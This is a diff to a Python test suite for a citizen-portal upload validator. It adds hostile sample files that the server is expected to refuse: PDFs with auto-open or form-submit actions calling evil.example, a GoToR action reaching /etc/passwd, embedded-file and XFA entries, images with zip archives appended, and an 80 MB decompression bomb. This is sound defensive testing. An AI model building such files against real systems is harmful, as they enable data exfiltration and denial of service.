@@ -19,7 +19,7 @@ import zlib
 import pytest
 from PIL import Image
 from pypdf import PdfWriter
-from pypdf.generic import DictionaryObject, NameObject, TextStringObject
+from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
 from sec_support import MZ, TODAY, create
 from sqlalchemy import select
 
@@ -87,6 +87,7 @@ FIELD_CASES = [
                          ids=[c[0] for c in FIELD_CASES])
 def test_bad_field_is_named_in_chinese_and_does_not_move_on(sec, step, fields, field_id, text):
     app_id = _draft(sec)
+    started_at = _snapshot(sec, app_id)[2]  # a value beyond its bounds (issue 12) is not stored at all
     c = sec.client("jx-citizen-wangfang")
     url = f"/portal/applications/{app_id}/step/{step}"
     r = c.post(url, {"_action": "next", "_version": _version(sec, app_id), **fields}, token_from=url)
@@ -99,7 +100,7 @@ def test_bad_field_is_named_in_chinese_and_does_not_move_on(sec, step, fields, f
         assert text in error.group(1)
     with sec.p.sessions() as s:
         a = s.get(Application, app_id)
-        assert a.status == "draft" and a.current_step in (None, step)
+        assert a.status == "draft" and a.current_step in (None, step, started_at)
 
 
 def test_lower_case_x_in_id_number_is_accepted(sec):
@@ -196,6 +197,60 @@ def _zip() -> bytes:
     return out.getvalue()
 
 
+def _action(kind: str, **entries):
+    def change(writer):
+        action = DictionaryObject({NameObject("/S"): NameObject(kind), **{
+            NameObject("/" + k): (TextStringObject(v) if isinstance(v, str) else v) for k, v in entries.items()}})
+        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
+    return change
+
+
+def _catalog_entry(key: str, value):
+    def change(writer):
+        target = writer._root_object
+        if key == "/EmbeddedFiles":
+            target[NameObject("/Names")] = DictionaryObject({NameObject(key): DictionaryObject()})
+        elif key == "/XFA":
+            target[NameObject("/AcroForm")] = DictionaryObject({NameObject(key): TextStringObject(value)})
+        else:
+            writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(DictionaryObject({
+                NameObject("/Subtype"): NameObject(key), NameObject("/Rect"): ArrayObject()}))])
+    return change
+
+
+def _link_pdf() -> bytes:
+    """A PDF with an ordinary clickable web link (not automatic): accepted."""
+    def change(writer):
+        link = DictionaryObject({NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): DictionaryObject({
+            NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject("https://www.gov.cn/")})})
+        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
+    return _pdf_with(change)
+
+
+def _object_stream_bomb() -> bytes:
+    """78 KB: an object stream that inflates to 80 MB (pypdf refuses it past its limit)."""
+    inner = b"5 0 " + b" " * (80 * 1024 * 1024)
+    packed = zlib.compress(inner, 9)
+    parts = [b"%PDF-1.5\n"]
+    offsets = {}
+    bodies = {1: b"<</Type/Catalog/Pages 2 0 R/Extra 5 0 R>>", 2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
+              3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>"}
+    for number, body in bodies.items():
+        offsets[number] = sum(map(len, parts))
+        parts.append(b"%d 0 obj\n%s\nendobj\n" % (number, body))
+    offsets[4] = sum(map(len, parts))
+    parts.append(b"4 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n" % len(packed)
+                 + packed + b"\nendstream\nendobj\n")
+    offsets[6] = sum(map(len, parts))
+    rows = [struct.pack(">BIH", 0, 0, 65535)] + [struct.pack(">BIH", 1, offsets[n], 0) for n in (1, 2, 3, 4)]
+    rows += [struct.pack(">BIH", 2, 4, 0), struct.pack(">BIH", 1, offsets[6], 0)]
+    table = b"".join(rows)
+    parts.append(b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Length %d>>\nstream\n" % len(table) + table
+                 + b"\nendstream\nendobj\n")
+    parts.append(b"startxref\n%d\n%%%%EOF\n" % offsets[6])
+    return b"".join(parts)
+
+
 UPLOAD_CASES = [
     ("empty", b"", "empty.pdf"),
     ("elf-renamed-pdf", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 200, "setup.pdf"),
@@ -207,6 +262,17 @@ UPLOAD_CASES = [
     ("truncated-jpeg", _jpeg()[:200], "cut.jpg"),
     ("svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "pic.svg"),
     ("html-renamed-png", b"<html><script>alert(1)</script></html>", "page.png"),
+    # issue 12: data hidden after the image, and PDFs that act, submit, embed or reach out
+    ("png-with-zip-appended", _png() + _zip(), "户口簿.png"),
+    ("jpeg-with-zip-appended", _jpeg() + _zip(), "身份证.jpg"),
+    ("pdf-uri-open-action", _pdf_with(_action("/URI", URI="https://evil.example/")), "uri.pdf"),
+    ("pdf-submit-form", _pdf_with(_action("/SubmitForm", F="https://evil.example/collect")), "submit.pdf"),
+    ("pdf-gotor-file", _pdf_with(_action("/GoToR", F="file:///etc/passwd", D=ArrayObject())), "gotor.pdf"),
+    ("pdf-xfa", _pdf_with(_catalog_entry("/XFA", "<xdp:xdp/>")), "xfa.pdf"),
+    ("pdf-embedded-files", _pdf_with(_catalog_entry("/EmbeddedFiles", None)), "embedded.pdf"),
+    ("pdf-rich-media", _pdf_with(_catalog_entry("/RichMedia", None)), "flash.pdf"),
+    ("pdf-html-after-eof", _pdf_with(lambda w: None) + b"<html><script>alert(1)</script></html>", "tail.pdf"),
+    ("pdf-object-stream-bomb", _object_stream_bomb(), "bomb.pdf"),
 ]
 
 
@@ -232,6 +298,18 @@ def test_refused_upload_names_the_file_and_stores_nothing(sec, data, name):
     assert _snapshot(sec, app_id) == before
     with sec.p.sessions() as s:
         assert len(s.scalars(select(StoredFile.sha256)).all()) == stored_before
+
+
+@pytest.mark.parametrize(("data", "name"), [(_png(), "scan.png"), (_jpeg(), "scan.jpg"), (_link_pdf(), "link.pdf"),
+                                            (_pdf_with(lambda w: None) + b"\r\n", "crlf.pdf")],
+                         ids=["png", "jpeg", "pdf-with-a-plain-link", "pdf-trailing-newline"])
+def test_sound_upload_is_accepted(sec, data, name):
+    """Positive control of the refusals above: ordinary scans and a PDF with a clickable link are stored."""
+    app_id = _draft(sec)
+    r = _upload(sec, app_id, data, name)
+    assert r.status_code == 302, r.get_data(as_text=True)[-400:]
+    with sec.p.sessions() as s:
+        assert s.get(Application, app_id).data["materials"]["uploads"]["income_certificate"][0]["name"] == name
 
 
 def test_oversized_upload_is_refused_with_the_limit(sec):
